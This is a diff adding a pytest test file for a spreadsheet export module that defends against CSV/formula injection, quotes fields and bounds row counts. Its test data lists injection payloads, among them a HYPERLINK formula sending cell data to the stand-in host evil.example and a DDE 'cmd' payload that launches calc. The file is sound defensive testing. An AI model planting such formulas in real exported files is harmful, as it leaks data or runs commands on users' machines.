@@ -1,0 +1,126 @@
+"""The one spreadsheet writer: formula-safe cells (OWASP's CSV injection), linear XLSX, a bound on rows."""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from fagnett.core.spreadsheet import Column, Sheet, TooManyRows, safe_cell, write_csv, write_xlsx
+
+QUOTED = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example/?d="&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "-1",  # text: a number written as text is text, and "-" may start a formula
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\t",
+    " =1",
+    "   +1",
+    "\u00a0=1",  # no-break space
+    "\u2003=1",  # em space
+    "\u3000=1",  # ideographic space
+    "\u200b=1",  # zero-width space
+    "\ufeff=1",  # byte-order mark
+    "\n \t=1",
+    "\uff1d1+1",  # full-width equals
+    "\uff0bcmd",  # full-width plus
+    "\uff0d1",  # full-width hyphen-minus
+    "\uff20SUM(1)",  # full-width commercial at
+    "|calc",  # DDE
+    "\uff5ccalc",
+]
+KEPT = ["", "Kari Nordmann", "1-2", "a=1", "Status: Received → Accepted", "(empty)", "'=1", "St. Olavs hospital", " x"]
+
+
+@pytest.mark.parametrize("text", QUOTED)
+def test_text_that_starts_a_formula_gets_an_apostrophe(text: str) -> None:
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_other_text_is_kept(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+@pytest.mark.parametrize("value", [-1, -2.5, Decimal("-1.5"), 0, None, datetime.date(2026, 1, 1), True])
+def test_numbers_and_other_values_are_kept(value: Any) -> None:
+    assert safe_cell(value) is value
+
+
+def test_csv_quotes_every_cell_keeps_numbers_and_bounds_rows() -> None:
+    text = write_csv(["=Header", "n"], [["-2+3", -5], [None, Decimal("1.5")]], max_rows=2)
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+    assert rows == [["'=Header", "n"], ["'-2+3", "-5"], ["", "1.5"]]
+    assert text == '\ufeff"\'=Header";"n"\r\n"\'-2+3";"-5"\r\n"";"1.5"\r\n'  # every field quoted (OWASP)
+    with pytest.raises(TooManyRows) as refused:
+        write_csv(["n"], ([n] for n in range(3)), max_rows=2)
+    assert refused.value.limit == 2
+
+
+def test_xlsx_is_write_only_and_never_holds_a_formula(monkeypatch: pytest.MonkeyPatch) -> None:
+    import openpyxl
+
+    made = []
+    real = openpyxl.Workbook
+
+    def workbook(*args: Any, **kwargs: Any) -> Any:
+        made.append(kwargs.get("write_only", False))
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(openpyxl, "Workbook", workbook)
+    columns = [Column("When", 19, number_format="dd.mm.yyyy hh:mm"), Column("What", 40, wrap=True), Column("n")]
+    rows = [[datetime.datetime(2026, 1, 2, 3, 4), "=1+1", -3], [None, "ok\x01\x0b", 2.5]]
+    content = write_xlsx([Sheet("Log", columns, rows)], max_rows=10, title="Title\x02")
+    assert made == [True]
+
+    book = load_workbook(io.BytesIO(content))
+    sheet = book["Log"]
+    assert book.properties.title == "Title"
+    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold and sheet.column_dimensions["B"].width == 40
+    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
+        ["When", "What", "n"],
+        [datetime.datetime(2026, 1, 2, 3, 4), "'=1+1", -3],
+        [None, "ok", 2.5],  # characters XML cannot hold are left out, not a broken file
+    ]
+    assert sheet["A2"].number_format == "dd.mm.yyyy hh:mm" and sheet["B2"].alignment.wrap_text
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_xlsx_exact_text_keeps_the_text_and_marks_it_quoted() -> None:
+    """For files that come back (the capacity template): text, never a formula, and read back unchanged."""
+    content = write_xlsx(
+        [Sheet("S", [Column("a")], [["=HYPERLINK(1)"], [" +1"], ["plain"]])], max_rows=5, exact_text=True
+    )
+    sheet = load_workbook(io.BytesIO(content))["S"]
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
+        ("=HYPERLINK(1)", "s", True),
+        (" +1", "s", True),
+        ("plain", "s", False),
+    ]
+    read_only = load_workbook(io.BytesIO(content), read_only=True, data_only=True)["S"]
+    assert [row[0] for row in read_only.iter_rows(min_row=2, values_only=True)] == ["=HYPERLINK(1)", " +1", "plain"]
+
+
+def test_xlsx_over_the_bound_is_refused_whole() -> None:
+    from openpyxl.worksheet._writer import ALL_TEMP_FILES
+
+    before = list(ALL_TEMP_FILES)
+    sheet = Sheet("S", [Column("n")], ([n] for n in range(11)))
+    with pytest.raises(TooManyRows):
+        write_xlsx([Sheet("First", [Column("n")], [[1]]), sheet], max_rows=10)
+    assert before == ALL_TEMP_FILES  # the half-written sheets' temporary files are gone
+
+
+def test_the_refusal_names_the_bound() -> None:
+    assert "20000" in TooManyRows(20_000, 25_000).message.replace("\u00a0", "").replace(" ", "").replace(",", "")
+    assert "25000" in TooManyRows(20_000, 25_000).message.replace("\u00a0", "").replace(" ", "").replace(",", "")
